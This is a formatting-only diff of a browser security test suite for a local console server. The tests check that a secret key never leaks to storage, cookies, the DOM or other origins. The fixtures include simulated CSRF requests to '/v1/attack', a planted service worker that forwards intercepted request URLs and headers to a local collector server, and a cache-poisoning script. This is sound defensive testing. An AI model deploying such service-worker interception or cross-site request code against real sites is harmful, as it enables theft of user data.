@@ -7,8 +7,8 @@ import { readFileSync } from "node:fs";
 import { createServer } from "node:http";
 import { join } from "node:path";
 import { after, before, describe, test } from "node:test";
-import { KEY, startProxy, startUpstream } from "../server/testing.mjs";
 import { serveLive } from "../server/live.mjs";
+import { KEY, startProxy, startUpstream } from "../server/testing.mjs";
 import { dist } from "./browser.mjs";
 import { engines } from "./live-browsers.mjs";
 
@@ -26,7 +26,10 @@ async function startOther(files, port = 0) {
   const server = createServer((request, response) => {
     seen.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)}`);
     const file = files((request.url ?? "/").split("?")[0] ?? "/");
-    response.writeHead(file === undefined ? 404 : 200, { "content-type": file?.type ?? "text/plain", ...file?.headers });
+    response.writeHead(file === undefined ? 404 : 200, {
+      "content-type": file?.type ?? "text/plain",
+      ...file?.headers,
+    });
     response.end(file?.body ?? "");
   });
   await new Promise((resolve) => server.listen(port, "127.0.0.1", () => resolve(undefined)));
@@ -60,7 +63,11 @@ for (const engine of engines) {
     const startLive = async (t, port = 0) => {
       const live = await serveLive({ apiKey: KEY, baseUrl: api.url, staticDir: dist, port });
       t.after(() => live.close());
-      return { ...live, secret: /** @type {string} */ (live.address.split("#key=")[1]), port: Number(new URL(live.url).port) };
+      return {
+        ...live,
+        secret: /** @type {string} */ (live.address.split("#key=")[1]),
+        port: Number(new URL(live.url).port),
+      };
     };
     /** @param {import("node:test").TestContext} t */
     const open = async (t) => {
@@ -75,9 +82,24 @@ for (const engine of engines) {
       await tab.goto(live.address);
       await tab.waitForSelector(OWN);
       assert.equal(tab.url().replace(/#\/?$/, ""), `${live.url}/`);
-      const kept = await tab.evaluate(async () => JSON.stringify([location.href, document.cookie, { ...localStorage }, { ...sessionStorage }, await indexedDB.databases(), await caches.keys(), history.state, window.name, document.documentElement.outerHTML]));
+      const kept = await tab.evaluate(async () =>
+        JSON.stringify([
+          location.href,
+          document.cookie,
+          { ...localStorage },
+          { ...sessionStorage },
+          await indexedDB.databases(),
+          await caches.keys(),
+          history.state,
+          window.name,
+          document.documentElement.outerHTML,
+        ]),
+      );
       assert.ok(!kept.includes(live.secret) && !kept.includes(KEY), kept);
-      assert.ok(api.seen.length > 0 && api.seen.every((request) => request.includes(KEY) && !request.includes(live.secret)), "the page reads the account, and the API never sees the secret");
+      assert.ok(
+        api.seen.length > 0 && api.seen.every((request) => request.includes(KEY) && !request.includes(live.secret)),
+        "the page reads the account, and the API never sees the secret",
+      );
     });
 
     test("a reload and a new tab are locked, say what to do, and open where they were", async (t) => {
@@ -136,12 +158,22 @@ for (const engine of engines) {
               const target = `${origin}/v1/attack`;
               await fetch(target, { credentials: "include" }).catch(() => {});
               await fetch(target, { mode: "no-cors", credentials: "include" }).catch(() => {});
-              await fetch(target, { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).catch(() => {});
-              await fetch(target, { method: "POST", headers: { "x-console-secret": "x", "content-type": "application/json" }, body: "{}" }).catch(() => {});
+              await fetch(target, { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).catch(
+                () => {},
+              );
+              await fetch(target, {
+                method: "POST",
+                headers: { "x-console-secret": "x", "content-type": "application/json" },
+                body: "{}",
+              }).catch(() => {});
               const frame = document.createElement("iframe");
               frame.name = `f${Math.random()}`;
               frame.src = target;
-              const form = Object.assign(document.createElement("form"), { method: "post", action: target, target: frame.name });
+              const form = Object.assign(document.createElement("form"), {
+                method: "post",
+                action: target,
+                target: frame.name,
+              });
               const image = Object.assign(new Image(), { src: target });
               const script = Object.assign(document.createElement("script"), { src: target });
               document.body.append(frame, image, script, form);
@@ -156,12 +188,19 @@ for (const engine of engines) {
         await new Promise((resolve) => setTimeout(resolve, 300));
       }
       assert.ok(other.seen.length >= 3, "the other server was visited");
-      assert.ok(!other.seen.some((request) => request.includes(live.secret) || request.includes("cookie")), other.seen.join("\n"));
+      assert.ok(
+        !other.seen.some((request) => request.includes(live.secret) || request.includes("cookie")),
+        other.seen.join("\n"),
+      );
       assert.ok(!api.seen.some((request) => request.includes("attack")), "nothing has reached the API");
     });
 
     test("a service worker that an earlier page of this port left neither sees nor sends anything", async (t) => {
-      const home = await startOther(() => ({ type: "text/plain", body: "", headers: { "access-control-allow-origin": "*" } }));
+      const home = await startOther(() => ({
+        type: "text/plain",
+        body: "",
+        headers: { "access-control-allow-origin": "*" },
+      }));
       t.after(home.close);
       const worker = `
         addEventListener("install", () => skipWaiting());
@@ -170,13 +209,21 @@ for (const engine of engines) {
           fetch("http://127.0.0.1:${home.port}/" + encodeURIComponent(event.request.url + JSON.stringify([...event.request.headers])), { mode: "no-cors" });
           if (event.request.mode === "navigate") event.respondWith(fetch("/v1/attack", { method: "POST", body: "{}" }).then(() => fetch(event.request.url)));
         });`;
-      const earlier = await startOther((path) => (path === "/sw.js" ? { type: "text/javascript", body: worker } : path === "/" ? { type: "text/html", body: "<title>earlier</title>" } : undefined));
+      const earlier = await startOther((path) =>
+        path === "/sw.js"
+          ? { type: "text/javascript", body: worker }
+          : path === "/"
+            ? { type: "text/html", body: "<title>earlier</title>" }
+            : undefined,
+      );
       const names = ["127.0.0.1", "localhost", "live-0123456789.localhost"];
       for (const name of names) {
         const tab = await open(t);
         await tab.goto(`http://${name}:${earlier.port}/`);
         const taken = await tab.evaluate(async () => {
-          const controlled = new Promise((resolve) => navigator.serviceWorker.addEventListener("controllerchange", () => resolve(true)));
+          const controlled = new Promise((resolve) =>
+            navigator.serviceWorker.addEventListener("controllerchange", () => resolve(true)),
+          );
           await navigator.serviceWorker.register("/sw.js");
           return controlled;
         });
@@ -190,16 +237,29 @@ for (const engine of engines) {
       await tab.waitForSelector(OWN);
       assert.equal(await tab.evaluate(() => navigator.serviceWorker.controller), null);
       assert.deepEqual(home.seen.slice(before), []);
-      for (const name of names) await tab.goto(`http://${name}:${live.port}/${new URL(live.address).hash}`).catch(() => {});
+      for (const name of names)
+        await tab.goto(`http://${name}:${live.port}/${new URL(live.address).hash}`).catch(() => {});
       assert.ok(!api.seen.some((request) => request.includes("attack")), "nothing has reached the API");
     });
 
     test("a script that an earlier page of this port left in the cache does not run", async (t) => {
-      const asset = /src="\.?\/?(assets\/[^"]+\.js)"/.exec(readFileSync(join(dist, "index.html"), "utf8"))?.[1] ?? assert.fail("the page has no script");
+      const asset =
+        /src="\.?\/?(assets\/[^"]+\.js)"/.exec(readFileSync(join(dist, "index.html"), "utf8"))?.[1] ??
+        assert.fail("the page has no script");
       const script = 'document.title = "owned"; fetch("/v1/attack", { method: "POST", body: "{}" });';
       const earlier = await startOther((path) => {
-        if (path === `/${asset}`) return { type: "text/javascript", body: script, headers: { "cache-control": "public, max-age=31536000, immutable" } };
-        return path === "/" ? { type: "text/html", body: `<title>earlier</title><script type="module" crossorigin src="/${asset}"></script>` } : undefined;
+        if (path === `/${asset}`)
+          return {
+            type: "text/javascript",
+            body: script,
+            headers: { "cache-control": "public, max-age=31536000, immutable" },
+          };
+        return path === "/"
+          ? {
+              type: "text/html",
+              body: `<title>earlier</title><script type="module" crossorigin src="/${asset}"></script>`,
+            }
+          : undefined;
       });
       const tab = await open(t);
       for (const name of ["127.0.0.1", "localhost"]) {
@@ -219,7 +279,12 @@ for (const engine of engines) {
       t.after(() => live.close());
       const tab = await open(t);
       await tab.goto(live.address);
-      const outcome = await tab.evaluate(() => navigator.serviceWorker.register("/page.js").then(() => "registered", (error) => error.name));
+      const outcome = await tab.evaluate(() =>
+        navigator.serviceWorker.register("/page.js").then(
+          () => "registered",
+          (error) => error.name,
+        ),
+      );
       assert.match(outcome, /^(SecurityError|TypeError)$/);
     });
   });
